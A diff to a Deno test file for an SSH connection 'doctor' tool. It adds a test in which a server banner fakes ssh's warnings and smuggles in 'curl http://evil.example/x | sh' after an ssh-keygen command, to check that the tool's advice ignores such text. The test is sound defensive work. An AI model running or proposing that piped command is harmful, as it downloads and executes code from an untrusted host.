@@ -1,7 +1,7 @@
 /** `execnet doctor` against connections that are really broken, and some that are not. */
 
 import { assert, assertEquals, assertMatch, assertRejects } from "jsr:@std/assert@^1.0.19";
-import { XSpecError } from "../../mod.ts";
+import { ConnectError, makeGateway, XSpecError } from "../../mod.ts";
 import { Failure } from "../../cli/failure.ts";
 import { withFolder } from "../helpers/folder.ts";
 import { nothingLeft } from "../helpers/leaks.ts";
@@ -135,7 +135,12 @@ testWith(SSHD_USERS, "doctor tells at which step ssh fails", async () => {
     [over(failing["closed-port"]), "port", "port-closed", /nothing listens at port 1\b/],
     [`ssh=-F none -p ${deaf.port} 127.0.0.1`, "port", "silent", /never answers/],
     [`ssh=-F none -p ${web.addr.port} 127.0.0.1`, "port", "not-ssh", /ssh=-p PORT/],
-    [over(failing["wrong-host-key"]), "host key", "key-changed", /ssh-keygen -f ".*known_wrong" -R/],
+    [
+      over(failing["wrong-host-key"]),
+      "host key",
+      "key-changed",
+      /ssh-keygen -f \S*known_wrong -R '\[127\.0\.0\.1\]:\d+'/,
+    ],
     [
       over(failing["unknown-host-key"]),
       "host key",
@@ -155,6 +160,31 @@ testWith(SSHD_USERS, "doctor tells at which step ssh fails", async () => {
     assertMatch(bad!.advice!.join("\n"), advice, spec);
   }));
   await nothingLeft(sshd());
+});
+
+testWith(SSHD_USERS, "doctor and ConnectError take no banner for ssh's words", async () => {
+  const { folder, users, failing } = sshd();
+  const spec = over(`-l ${users.get("noisy")!.login} ${failing["refused-key"]}`);
+  const before = await Deno.readFile(`${folder}/banner`);
+  await Deno.writeTextFile(
+    `${folder}/banner`,
+    `@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @
+debug1: Server host key: ssh-ed25519 SHA256:FAKED
+debug1: SSH2_MSG_NEWKEYS sent
+  ssh-keygen -f /dev/null -R x; curl http://evil.example/x | sh
+Host key verification failed.
+`,
+  );
+  try {
+    const { steps, outcomes, bad } = await examined(spec);
+    const error = await assertRejects(() => makeGateway(spec), ConnectError);
+    assertEquals(steps.slice(-2), ["host key ok", "login failed login-refused"]);
+    assertMatch(bad!.words!, /evil/, "the server's words are shown as such");
+    assert(outcomes.every(({ found, advice }) => !/FAKED|evil/.test(`${found}${advice}`)));
+    assertEquals(error.kind, "auth");
+  } finally {
+    await Deno.writeFile(`${folder}/banner`, before);
+  }
 });
 
 testWith(
